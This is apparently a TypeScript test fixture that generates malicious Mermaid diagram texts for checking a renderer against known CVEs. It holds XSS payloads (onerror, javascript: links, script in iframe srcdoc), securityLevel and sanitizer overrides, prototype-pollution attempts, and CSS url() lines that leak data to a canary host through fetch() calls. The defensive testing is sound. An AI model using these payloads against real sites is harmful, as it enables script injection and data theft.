/**
 * Mermaid texts that would do harm: what a diagram may ask for itself (`%%{init}%%`, a head of its own, clicks, styles) and what its
 * labels may hold, in each kind of diagram. Of the published holes (CVE-2021-43861, CVE-2022-31108, CVE-2025-54880, CVE-2025-54881) the
 * examples are among them. DEED calls home or asks the network, CANARY is an address that must never be asked.
 */
import type { Payload } from "#web/outputs/testing/payloads.ts"

const LOOSE: readonly string[] = [
  "",
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n',
  "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  secure: []\n---\n",
  '%%{init: {"dompurifyConfig": {"ADD_TAGS": ["script", "iframe"], "ADD_ATTR": ["onerror", "onload", "srcdoc"], "FORCE_BODY": true}}}%%\n',
  '%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"securityLevel": "loose"}}}}%%\n',
  '%%{initialize: {"securityLevel": "antiscript", "secure": []}}%%\n',
]

const LABELS: readonly string[] = [
  "<img src=x onerror=DEED>",
  "<svg onload=DEED></svg>",
  "<script>DEED</script>",
  "<foreignObject><iframe srcdoc='<script>parent.DEED</script>'></iframe></foreignObject>",
  "<a href='javascript:DEED' target='_top'>go</a>",
  "<a href='CANARY/label' target='_top'>go</a>",
  "#lt;img src=x onerror=DEED#gt;",
  "<math><mtext><table><mglyph><style><img src=x onerror=DEED>",
  "<img src='CANARY/img'>",
  "<style>* { background: url(CANARY/label-style) }</style>",
  "</text></g></svg><img src=x onerror=DEED>",
]

/** Where a kind of diagram has words of its own. */
const KINDS: readonly ((label: string) => string)[] = [
  (label) => `graph TD\nA["${label}"] -->|"${label}"| B("${label}")`,
  (label) => `flowchart LR\nA["\`**bold** ${label}\`"] --> B`,
  (label) => `sequenceDiagram\nparticipant A as Alice${label}$$\\text{Alice}$$\nA->>B: ${label}\nNote over A: ${label}`,
  (label) => `classDiagram\nclass A["${label}"]\nA : +${label}`,
  (label) => `stateDiagram-v2\ns1 : ${label}\n[*] --> s1`,
  (label) => `pie title ${label}\n"${label}" : 1`,
  (label) => `gantt\ntitle ${label}\nsection ${label}\n${label} :a1, 2024-01-01, 3d`,
  (label) => `journey\ntitle ${label}\nsection ${label}\n${label}: 5: Me`,
]

const ALONE: readonly string[] = [
  'graph TD\nA[go] --> B\nclick A stetFired "tip"',
  'graph TD\nA[go] --> B\nclick A call stetFired(N) "tip"',
  'graph TD\nA[go] --> B\nclick A href "javascript:DEED" "tip" _top',
  'graph TD\nA[go] --> B\nclick A "java\tscript:DEED"',
  'graph TD\nA[go] --> B\nclick A "data:text/html,<script>DEED</script>" _self',
  'graph TD\nA[go] --> B\nclick A href "CANARY/click" "tip" _top',
  'graph TD\nA[go] --> B\nclick A href "CANARY/blank" _blank',
  'graph TD\nA[go] --> B\nclick A href "CANARY/self" _self',
  'gantt\nsection s\ntask :a1, 2024-01-01, 3d\nclick a1 call stetFired(N)\nclick a1 href "javascript:DEED"',
  'classDiagram\nclass A\ncallback A "stetFired" "tip"\nlink A "javascript:DEED" "tip"',
  'classDiagram\nclass A\nclick A call stetFired(N) "tip"\nclick A href "CANARY/class" _top',
  'sequenceDiagram\nparticipant A\nlink A: go @ javascript:DEED\nlinks A: {"out": "CANARY/links"}\nA->>A: x',
  'sequenceDiagram\nparticipant A\nproperties A: {"class": "x\' onload=DEED"}\nA->>A: x',
  '%%{init: {"themeCSS": "* { background: url(CANARY/theme) } @import url(CANARY/import); input[value^=a] { background: url(CANARY/leak) }"}}%%\ngraph TD\nA --> B',
  '%%{init: {"themeCSS": "} body { position: fixed; inset: -9999px; z-index: 2147483647 } svg { cursor: url(CANARY/cursor), auto"}}%%\ngraph TD\nA --> B',
  '%%{init: {"themeCSS": "</style><img src=x onerror=DEED>"}}%%\ngraph TD\nA --> B',
  '%%{init: {"themeCSS": "@font-face { font-family: stolen; src: url(CANARY/face) } * { font-family: stolen }"}}%%\ngraph TD\nA --> B',
  '%%{init: {"fontFamily": "x; } * { background-image: url(CANARY/family) } .y {"}}%%\ngraph TD\nA --> B',
  '%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red; } * { background: url(CANARY/variable) } .y {"}}}%%\ngraph TD\nA --> B',
  "graph TD\nA --> B\nclassDef stolen fill:url(CANARY/fill),background:url(CANARY/background)\nclass A stolen",
  "graph TD\nA --> B\nstyle A fill:#f00,background-image:url(CANARY/style)\nlinkStyle 0 stroke:url(CANARY/link)",
  'flowchart TD\nA@{ img: "CANARY/picture", label: "x", w: 60, h: 60 }',
  'flowchart TD\nA@{ img: "javascript:DEED", label: "<img src=x onerror=DEED>" }',
  'flowchart TD\nA@{ icon: "x:<img src=x onerror=DEED>", label: "x" }',
  'architecture-beta\ngroup api(cloud)[API]\nservice db "<img src=x onerror=DEED>" [Database] in api',
  'C4Context\nPerson(a, "<img src=x onerror=DEED>", $link="javascript:DEED", $sprite="CANARY/sprite")',
  'erDiagram\n"<img src=x onerror=DEED>" ||--o{ B : "<img src=x onerror=DEED>"',
  'gitGraph\ncommit id: "<img src=x onerror=DEED>" tag: "<svg onload=DEED>"',
  "timeline\ntitle <img src=x onerror=DEED>\n2024 : <img src=x onerror=DEED>",
  "quadrantChart\ntitle <img src=x onerror=DEED>\nx-axis <svg onload=DEED> --> b\nA: [0.3, 0.6]",
  'requirementDiagram\nrequirement r {\nid: 1\ntext: "<img src=x onerror=DEED>"\nrisk: high\nverifymethod: test\n}',
  "sankey-beta\n<img src=x onerror=DEED>,B,10",
  'xychart-beta\ntitle "<img src=x onerror=DEED>"\nx-axis [a, b]\nbar [1, 2]',
  'block-beta\ncolumns 1\na["<img src=x onerror=DEED>"]',
  "not a diagram <img src=x onerror=DEED>",
]

/** Each way of loosening before each kind, labels going round; and what needs none. */
export function diagramPayloads(canary: string): readonly Payload[] {
  let at = 0
  const worded = LOOSE.flatMap((head) => KINDS.flatMap((kind) => [0, 1].map(() => head + kind(LABELS[at++ % LABELS.length] ?? ""))))
  const alone = ALONE.flatMap((text) => (text.startsWith("%%") ? [text] : [text, `${LOOSE[1]}${text}`, `${LOOSE[2]}${text}`]))
  return [...worded, ...alone].map((text, index) => {
    const deed = index % 2 === 0 ? `stetFired(${index})` : `fetch('${canary}/deed?${index}')`
    const filled = text.replaceAll("DEED", deed).replaceAll("CANARY", canary).replaceAll(/\bN\b/g, String(index))
    return { name: `diagram ${index}: ${text.slice(0, 60)}`, text: filled }
  })
}
